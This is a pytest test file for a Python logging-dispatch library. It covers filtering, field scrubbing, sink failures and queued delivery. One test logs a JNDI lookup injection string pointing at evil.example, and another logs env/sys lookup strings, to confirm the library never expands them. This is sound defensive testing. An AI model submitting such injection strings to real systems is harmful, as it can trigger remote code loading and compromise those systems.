from __future__ import annotations

from datetime import datetime, timezone
from typing import Any

from lib_log_dispatch.adapters.encoding import create_encoders
from lib_log_dispatch.adapters.queue import QueueAdapter
from lib_log_dispatch.adapters.scrubber import RegexScrubber
from lib_log_dispatch.adapters.sinks import MemorySink
from lib_log_dispatch.application.ports import QueuedRecord, SinkTarget
from lib_log_dispatch.application.use_cases.dispatch import SinkDispatcher
from lib_log_dispatch.application.use_cases.process_record import create_process_log_record
from lib_log_dispatch.application.use_cases.severity_filter import SeverityFilter
from lib_log_dispatch.domain import ContextBinder, DeliveryMonitor, LogLevel, LogRecord
from tests.factories import FailingSink
from tests.os_markers import OS_AGNOSTIC

pytestmark = [OS_AGNOSTIC]


class _FixedClock:
    def now(self) -> datetime:
        return datetime(2025, 9, 23, 12, 0, tzinfo=timezone.utc)


class _Ids:
    def __init__(self) -> None:
        self.counter = 0

    def __call__(self) -> str:
        self.counter += 1
        return f"rec-{self.counter}"


class _Pipeline:
    def __init__(
        self,
        *,
        min_level: LogLevel = LogLevel.INFO,
        queue: QueueAdapter | None = None,
        extra_sinks: tuple[SinkTarget, ...] = (),
    ) -> None:
        self.sink = MemorySink()
        self.monitor = DeliveryMonitor()
        self.binder = ContextBinder()
        self.filter = SeverityFilter(min_level)
        self.diagnostics: list[tuple[str, dict[str, Any]]] = []
        self.dispatcher = SinkDispatcher(
            (SinkTarget("memory", self.sink),) + extra_sinks,
            encoders=create_encoders("{LEVEL} {message}{fields_text}"),
            monitor=self.monitor,
        )
        self.process = create_process_log_record(
            severity_filter=self.filter,
            context_binder=self.binder,
            scrubber=RegexScrubber(patterns={"password": r".+"}),
            clock=_FixedClock(),
            id_provider=_Ids(),
            monitor=self.monitor,
            dispatcher=self.dispatcher,
            queue=queue,
            diagnostic=lambda name, payload: self.diagnostics.append((name, payload)),
        )

    def log(self, level: LogLevel, template: str, *args: Any, fields: dict[str, Any] | None = None) -> dict[str, Any]:
        return self.process(logger_name="tests", level=level, template=template, args=args, fields=fields)


def test_inline_record_is_delivered_with_arguments_as_data() -> None:
    pipeline = _Pipeline()

    result = pipeline.log(LogLevel.INFO, "User input: {}", "${jndi:ldap://evil.example/a}")

    assert result == {"ok": True, "record_id": "rec-1", "queued": False, "delivered": ["memory"]}
    assert pipeline.sink.lines() == ["INFO User input: ${jndi:ldap://evil.example/a}"]
    assert ("delivered", {"record_id": "rec-1", "sinks": ["memory"]}) in pipeline.diagnostics


def test_records_below_threshold_never_reach_sinks() -> None:
    pipeline = _Pipeline(min_level=LogLevel.WARNING)

    results = [pipeline.log(level, "{}", level.name) for level in (LogLevel.DEBUG, LogLevel.WARNING, LogLevel.ERROR)]

    assert results[0] == {"ok": False, "reason": "below_threshold"}
    assert pipeline.sink.lines() == ["WARNING WARNING", "ERROR ERROR"]
    snapshot = pipeline.monitor.snapshot()
    assert snapshot.dropped["below_threshold"] == 1
    assert snapshot.accepted["warning"] == 1


def test_bound_fields_merge_with_call_fields_and_are_scrubbed() -> None:
    pipeline = _Pipeline()

    with pipeline.binder.bind(request_id="r-7", user="alice"):
        pipeline.log(LogLevel.INFO, "login", fields={"user": "bob", "password": "hunter2"})

    assert pipeline.sink.lines() == ["INFO login password=*** request_id=r-7 user=bob"]


def test_sink_failure_is_reported_in_the_result() -> None:
    pipeline = _Pipeline(extra_sinks=(SinkTarget("broken", FailingSink()),))

    result = pipeline.log(LogLevel.ERROR, "boom")

    assert result["ok"] is False
    assert result["failed"] == ["broken"]
    assert result["reason"] == "sink_failure"
    assert pipeline.sink.lines() == ["ERROR boom"]


def test_queued_records_are_delivered_by_the_worker() -> None:
    queue = QueueAdapter()
    pipeline = _Pipeline(queue=queue)
    queue.set_worker(pipeline.dispatcher)
    queue.start()

    result = pipeline.log(LogLevel.INFO, "queued {}", 1)
    report = queue.stop(drain=True, timeout=2.0)

    assert result == {"ok": True, "record_id": "rec-1", "queued": True}
    assert report.clean
    assert pipeline.sink.lines() == ["INFO queued 1"]
    assert any(name == "queued" for name, _ in pipeline.diagnostics)


def test_full_buffer_reports_queue_full() -> None:
    queue = QueueAdapter(worker=None, maxsize=1, drop_policy="drop")
    pipeline = _Pipeline(queue=queue)

    assert pipeline.log(LogLevel.INFO, "first")["ok"] is True
    rejected = pipeline.log(LogLevel.INFO, "second")

    assert rejected["ok"] is False
    assert rejected["reason"] == "queue_full"


def test_closed_buffer_reports_closed() -> None:
    queue = QueueAdapter(worker=None)
    pipeline = _Pipeline(queue=queue)
    queue.stop()

    assert pipeline.log(LogLevel.INFO, "late")["reason"] == "closed"


def test_queued_records_carry_the_sink_set_current_at_acceptance() -> None:
    items: list[object] = []
    queue = QueueAdapter(worker=items.append)
    pipeline = _Pipeline(queue=queue)
    queue.start()

    pipeline.log(LogLevel.INFO, "captured")
    pipeline.dispatcher.replace([])
    queue.stop(drain=True, timeout=2.0)

    assert len(items) == 1
    assert isinstance(items[0], QueuedRecord)
    assert [target.name for target in items[0].targets] == ["memory"]


def test_template_lookup_text_is_never_expanded() -> None:
    pipeline = _Pipeline()
    captured: list[LogRecord] = []
    original = pipeline.dispatcher.dispatch

    def spy(record: LogRecord):
        captured.append(record)
        return original(record)

    pipeline.dispatcher.dispatch = spy  # type: ignore[method-assign]
    pipeline.log(LogLevel.INFO, "${env:HOME} {}", "${sys:user.name}")

    assert captured[0].template == "${env:HOME} {}"
    assert pipeline.sink.lines() == ["INFO ${env:HOME} ${sys:user.name}"]
